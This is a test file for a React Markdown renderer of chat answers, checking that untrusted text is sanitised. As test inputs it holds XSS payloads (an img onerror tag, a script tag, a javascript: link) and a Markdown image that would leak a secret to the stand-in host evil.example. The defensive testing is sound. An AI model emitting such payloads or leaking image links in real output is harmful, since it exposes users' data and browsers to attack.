import { renderToStaticMarkup } from 'react-dom/server'
import { beforeAll, describe, expect, it } from 'vitest'
import { Tooltip } from 'radix-ui'
import { startTexts } from '../../locales/i18n.ts'
import { Markdown } from './markdown.tsx'

function draw(text: string, isStreaming = false): string {
  return renderToStaticMarkup(
    <Tooltip.Provider>
      <Markdown text={text} isStreaming={isStreaming} />
    </Tooltip.Provider>,
  )
}

describe('Markdown of answers', () => {
  beforeAll(() => {
    startTexts()
  })

  it('shows raw HTML as the text it is', () => {
    const drawn = draw('Hi <img src="https://evil.example/x.png" onerror="x()"> <script>alert(1)</script>')
    expect(drawn).not.toMatch(/<img|<script/)
    expect(drawn).toContain('&lt;script&gt;')
  })

  it('never fetches a picture', () => {
    const drawn = draw('![my secret](https://evil.example/?q=secret)')
    expect(drawn).not.toContain('evil.example')
    expect(drawn).toContain('Picture not shown: my secret')
  })

  it('makes no link of an odd protocol', () => {
    const drawn = draw('[a](javascript:alert(1)) [b](file:///x) [c](https://good.example/)')
    expect(drawn.match(/href="[^"]*"/g)).toEqual(['href="https://good.example/"'])
  })

  it('sets headings below those of the page', () => {
    expect(draw('# One')).toContain('<h3>One</h3>')
  })

  it('draws half-finished text', () => {
    expect(draw('**half', true)).toContain('<strong>half</strong>')
    expect(draw('```js\nlet a', true)).toContain('let a')
  })
})
